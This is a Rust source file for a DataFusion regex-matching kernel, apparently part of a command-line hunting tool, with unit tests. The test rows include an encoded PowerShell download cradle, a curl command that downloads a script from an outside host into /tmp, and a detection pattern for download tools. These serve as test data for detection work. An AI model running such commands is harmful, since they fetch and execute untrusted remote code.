//! The kernel behind `matches` and `matches~`: a regex test over a whole column at once.
//!
//! DataFusion's `~` runs the regex once per row, and on millions of short command lines the cost
//! of each call, not the scanning, is most of the time. Every match of a regex starts with one of
//! a set of literals (its prefixes) when that set is finite: `(?i)\b(npm|yarn) install` can only
//! match where `npm` or `yarn` occurs, in any case. Those literals are searched for once over the
//! column's contiguous value buffer, with the SIMD search the regex engine uses for itself, and
//! the regex runs only on the rows where one occurs. A pattern with no such literals (`\w{100,}`)
//! is run row by row, as `~` does. The answer is `~`'s in every case, nulls included: the
//! literals only choose which rows to test.
//!
//! In the plan the test is `spoor_matches(text, pattern)` (`spoor_imatches` ignoring case); the
//! SQL export ([`crate::run::to_sql`]) writes it back as `~` / `~*`.

use std::hash::{Hash, Hasher};
use std::sync::{Arc, OnceLock};

use arrow::array::{Array, AsArray, BooleanArray, BooleanBufferBuilder, StringArray};
use arrow::datatypes::DataType;
use datafusion::common::{ScalarValue, exec_err};
use datafusion::error::Result;
use datafusion::logical_expr::{
    ColumnarValue, Expr, ScalarFunctionArgs, ScalarUDF, ScalarUDFImpl, Signature, Volatility, lit,
};
use regex::Regex;
use regex_automata::util::prefilter::Prefilter;
use regex_automata::util::syntax;
use regex_automata::{MatchKind, Span};

use super::strings;

/// Candidates found before the search may give way to testing row by row.
const DENSE_AFTER: usize = 64;

/// Regexes beyond this compiled size are refused: they cost memory per query thread.
pub const REGEX_SIZE_LIMIT: usize = 1 << 20;

/// The names the test has in a plan.
pub const NAME: &str = "spoor_matches";
pub const NAME_NOCASE: &str = "spoor_imatches";

/// `text matches pattern` (`matches~` with `nocase`): true where the regex finds a match, null
/// where `text` is null.
pub fn matches(text: Expr, pattern: &str, nocase: bool) -> Expr {
    ScalarUDF::new_from_impl(RegexTest::new(pattern, nocase)).call(vec![text, lit(pattern)])
}

/// As [`matches()`], but only where the pattern's literals can be searched for over the whole
/// column; `None` otherwise (and for an invalid pattern), for callers with a cheaper row-by-row
/// test of their own to fall back on.
pub fn matches_by_literals(text: Expr, pattern: &str, nocase: bool) -> Option<Expr> {
    let test = RegexTest::new(pattern, nocase);
    test.compiled().ok()?.prefixes.as_ref()?;
    Some(ScalarUDF::new_from_impl(test).call(vec![text, lit(pattern)]))
}

/// Parses the pattern and builds its automaton under the size limit: the engine's own regex
/// crate compiles it again to run it. Building only the forward NFA checks both syntax and size
/// at a fraction of a full compile's cost.
pub fn validate_regex(pattern: &str, nocase: bool) -> Result<(), String> {
    use regex_automata::nfa::thompson;
    let syntax = regex_automata::util::syntax::Config::new().case_insensitive(nocase);
    let config = thompson::Config::new()
        .nfa_size_limit(Some(REGEX_SIZE_LIMIT))
        .shrink(false)
        .which_captures(thompson::WhichCaptures::None);
    match thompson::Compiler::new().syntax(syntax).configure(config).build(pattern) {
        Ok(_) => Ok(()),
        Err(e) if e.size_limit().is_some() => {
            Err(format!("regular expression too large (limit {} KiB compiled)", REGEX_SIZE_LIMIT / 1024))
        }
        Err(e) => {
            let detail = std::error::Error::source(&e).map_or_else(|| e.to_string(), |s| s.to_string());
            Err(format!("invalid regular expression: {}", detail.lines().last().unwrap_or("")))
        }
    }
}

#[derive(Debug)]
struct RegexTest {
    pattern: String,
    nocase: bool,
    signature: Signature,
    /// Built once, on first use (or when a caller asks whether the literals can be searched for).
    compiled: OnceLock<std::result::Result<Compiled, String>>,
}

#[derive(Debug)]
struct Compiled {
    regex: Regex,
    /// Finds, in any text, each place a match could start; `None` where no fast one exists.
    prefixes: Option<Prefilter>,
}

impl RegexTest {
    fn new(pattern: &str, nocase: bool) -> Self {
        Self {
            pattern: pattern.to_string(),
            nocase,
            signature: Signature::any(2, Volatility::Immutable),
            compiled: OnceLock::new(),
        }
    }

    fn compiled(&self) -> Result<&Compiled> {
        let compiled = self.compiled.get_or_init(|| Compiled::new(&self.pattern, self.nocase));
        match compiled {
            Ok(c) => Ok(c),
            Err(message) => exec_err!("regex `{}`: {message}", self.pattern),
        }
    }
}

impl Compiled {
    fn new(pattern: &str, nocase: bool) -> std::result::Result<Self, String> {
        // The same flags `~*` gives the regex, so the results are the same.
        let regex = regex::RegexBuilder::new(pattern).case_insensitive(nocase).build().map_err(|e| e.to_string())?;
        let hir =
            syntax::parse_with(pattern, &syntax::Config::new().case_insensitive(nocase)).map_err(|e| e.to_string())?;
        // A regex that can match empty text matches every row: no literal is required.
        let can_match_empty = hir.properties().minimum_len().is_none_or(|n| n == 0);
        let prefixes = if can_match_empty {
            None
        } else {
            Prefilter::from_hir_prefix(MatchKind::LeftmostFirst, &hir).filter(Prefilter::is_fast)
        };
        Ok(Self { regex, prefixes })
    }

    fn test(&self, text: &StringArray) -> BooleanArray {
        let mut found = BooleanBufferBuilder::new(text.len());
        found.append_n(text.len(), false);
        let mut test_row = |row: usize| {
            if text.is_valid(row) && self.regex.is_match(text.value(row)) {
                found.set_bit(row, true);
            }
        };
        let undecided = match &self.prefixes {
            Some(prefixes) => search(prefixes, text, &mut test_row),
            None => 0,
        };
        (undecided..text.len()).for_each(test_row);
        BooleanArray::new(found.finish(), text.nulls().cloned())
    }
}

/// Tests, in order, the rows where one of the literals starts, and returns the first row left
/// undecided: the end, or the row after the last tested where most rows turned out to hold a
/// literal, since there searching first only adds work to testing row by row.
fn search(prefixes: &Prefilter, text: &StringArray, mut test_row: impl FnMut(usize)) -> usize {
    let offsets = text.value_offsets();
    let values = text.value_data();
    let end = offsets[text.len()] as usize;
    let mut at = offsets[0] as usize;
    let mut candidates = 0;
    while let Some(candidate) = (at < end).then(|| prefixes.find(values, Span::from(at..end))).flatten() {
        // The row holding the candidate's start: the last one starting at or before it.
        let row = offsets.partition_point(|&o| o as usize <= candidate.start).saturating_sub(1);
        test_row(row);
        candidates += 1;
        if candidates >= DENSE_AFTER && candidates * 2 > row + 1 {
            return row + 1;
        }
        // The row is decided; a literal running on into the next row must not hide one that
        // starts inside it, so search again from the next row's start.
        at = offsets[row + 1] as usize;
    }
    text.len()
}

impl PartialEq for RegexTest {
    fn eq(&self, other: &Self) -> bool {
        (&self.pattern, self.nocase) == (&other.pattern, other.nocase)
    }
}

impl Eq for RegexTest {}

impl Hash for RegexTest {
    fn hash<H: Hasher>(&self, state: &mut H) {
        (&self.pattern, self.nocase).hash(state);
    }
}

impl ScalarUDFImpl for RegexTest {
    fn name(&self) -> &str {
        if self.nocase { NAME_NOCASE } else { NAME }
    }

    fn signature(&self) -> &Signature {
        &self.signature
    }

    fn return_type(&self, _args: &[DataType]) -> Result<DataType> {
        Ok(DataType::Boolean)
    }

    fn invoke_with_args(&self, args: ScalarFunctionArgs) -> Result<ColumnarValue> {
        let compiled = self.compiled()?;
        let Some(text) = args.args.first() else {
            return exec_err!("{} takes the text and the pattern", self.name());
        };
        match text {
            ColumnarValue::Scalar(value) => {
                let array = strings(&value.to_array()?)?;
                Ok(ColumnarValue::Scalar(ScalarValue::Boolean(compiled.test(&array).iter().next().flatten())))
            }
            // A dictionary's distinct texts are tested once each, and each row takes its text's answer.
            ColumnarValue::Array(array) => match array.as_any_dictionary_opt() {
                Some(dictionary) => {
                    let answers = compiled.test(&strings(dictionary.values())?);
                    Ok(ColumnarValue::Array(arrow::compute::take(&answers, dictionary.keys(), None)?))
                }
                None => Ok(ColumnarValue::Array(Arc::new(compiled.test(&strings(array)?)))),
            },
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn test(pattern: &str, nocase: bool, rows: &[Option<&str>]) -> Vec<Option<bool>> {
        Compiled::new(pattern, nocase).expect("a valid regex").test(&StringArray::from(rows.to_vec())).iter().collect()
    }

    /// What `~` answers: the regex on each row by itself.
    fn row_by_row(pattern: &str, nocase: bool, rows: &[Option<&str>]) -> Vec<Option<bool>> {
        let regex = regex::RegexBuilder::new(pattern).case_insensitive(nocase).build().expect("a valid regex");
        rows.iter().map(|r| r.map(|t| regex.is_match(t))).collect()
    }

    const INSTALLER: &str = r#"\b(npm|yarn|pnpm|bun)(\.cmd|\.exe)?"?\s+(i|install|add|ci)\b"#;

    #[test]
    fn literals_choose_rows_and_the_regex_decides() {
        let rows = [
            Some("npm install axios"),
            Some("node build.js"),
            None,
            Some("NPM.CMD i"),
            Some("xnpm install"),
            Some(""),
            Some("yarn"),
            Some("pnpm add esbuild"),
        ];
        assert!(Compiled::new(INSTALLER, true).unwrap().prefixes.is_some(), "the installer regex has literal prefixes");
        let expected =
            vec![Some(true), Some(false), None, Some(true), Some(false), Some(false), Some(false), Some(true)];
        assert_eq!(test(INSTALLER, true, &rows), expected);
        assert_eq!(test(INSTALLER, true, &rows), row_by_row(INSTALLER, true, &rows));
    }

    #[test]
    fn a_literal_across_two_rows_neither_matches_nor_hides_the_next_row() {
        // The buffer reads "...np" + "m install" = "npm install" across the boundary; the second
        // row also starts a real match of its own.
        let rows = [Some("run np"), Some("m install"), Some("npm ci")];
        assert_eq!(test(INSTALLER, false, &rows), vec![Some(false), Some(false), Some(true)]);
        let rows = [Some("echo np"), Some("npm install")];
        assert_eq!(test(INSTALLER, false, &rows), vec![Some(false), Some(true)]);
    }

    #[test]
    fn every_kind_of_pattern_agrees_with_row_by_row() {
        let rows = [
            Some("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
            Some("curl -fsSL http://sfrclak.com:8000/6202033 -o /tmp/ld.py"),
            Some("Invoke-WebRequest -Uri http://x"),
            Some("K\u{212A}elvin"),
            None,
            Some(""),
            Some("a"),
        ];
        let patterns = [
            (r"(?i)(curl|wget|invoke-webrequest)", false),
            (r"kelvin", true),
            (r"[A-Za-z0-9+/]{40,}", false),
            (r"^$", false),
            (r"a*", false),
            (r"sfrclak\.com$", false),
            (r"\d+$", false),
        ];
        for (pattern, nocase) in patterns {
            assert_eq!(test(pattern, nocase, &rows), row_by_row(pattern, nocase, &rows), "{pattern}");
        }
    }

    #[test]
    fn where_most_rows_hold_a_literal_the_rest_are_tested_row_by_row() {
        let mut rows: Vec<Option<&str>> = Vec::new();
        for i in 0..500 {
            rows.push(match i % 5 {
                0 => Some("npm install x"),
                1 => Some("npm run build"),
                2 => None,
                3 => Some("echo npm"),
                _ => Some("yarn add y"),
            });
        }
        assert_eq!(test(INSTALLER, false, &rows), row_by_row(INSTALLER, false, &rows));
    }

    #[test]
    fn only_patterns_with_searchable_literals_are_taken_by_literals() {
        let text = datafusion::prelude::col("x");
        assert!(matches_by_literals(text.clone(), r"^(?:node|node\.exe)$", true).is_some());
        assert!(matches_by_literals(text.clone(), r"[a-z]{8,}", false).is_none());
        assert!(matches_by_literals(text, r"(unclosed", false).is_none());
    }

    #[test]
    fn a_sliced_column_is_read_from_its_own_start() {
        let rows = StringArray::from(vec!["npm install", "echo", "npm ci", "yarn add x"]);
        let sliced = rows.slice(1, 2);
        let found: Vec<_> = Compiled::new(INSTALLER, false).unwrap().test(&sliced).iter().collect();
        assert_eq!(found, vec![Some(false), Some(true)]);
    }

    #[test]
    fn a_dictionary_gives_each_row_its_texts_answer() {
        use arrow::array::{ArrayRef, DictionaryArray, Int32Array};
        // Keys reuse texts, one is null, and one text ("bash") is used by no row.
        let values = StringArray::from(vec![Some("node"), Some("bash"), Some("NODE.EXE"), None]);
        let keys = Int32Array::from(vec![Some(0), Some(2), None, Some(0), Some(3)]);
        let dictionary: ArrayRef = Arc::new(DictionaryArray::new(keys, Arc::new(values)));
        let plain = arrow::compute::cast(&dictionary, &DataType::Utf8).unwrap();
        let test = RegexTest::new(r"^(?:node|node\.exe)$", true);
        let answer = |array: &ArrayRef| {
            let args = ScalarFunctionArgs {
                args: vec![ColumnarValue::Array(Arc::clone(array))],
                arg_fields: vec![],
                number_rows: array.len(),
                return_field: Arc::new(arrow::datatypes::Field::new("x", DataType::Boolean, true)),
                config_options: Arc::default(),
            };
            let ColumnarValue::Array(found) = test.invoke_with_args(args).unwrap() else { panic!("an array") };
            found.as_boolean().iter().collect::<Vec<_>>()
        };
        assert_eq!(answer(&dictionary), vec![Some(true), Some(true), None, Some(true), None]);
        assert_eq!(answer(&dictionary), answer(&plain));
    }
}

/// The pattern and case of `udf`, when it is a regex test: what it needs to travel to a cluster.
pub(crate) fn travelling(udf: &ScalarUDF) -> Option<(String, bool)> {
    let test = udf.inner().downcast_ref::<RegexTest>()?;
    Some((test.pattern.clone(), test.nocase))
}

/// A regex test again, from its pattern and case.
pub(crate) fn arrived(pattern: &str, nocase: bool) -> ScalarUDF {
    ScalarUDF::new_from_impl(RegexTest::new(pattern, nocase))
}
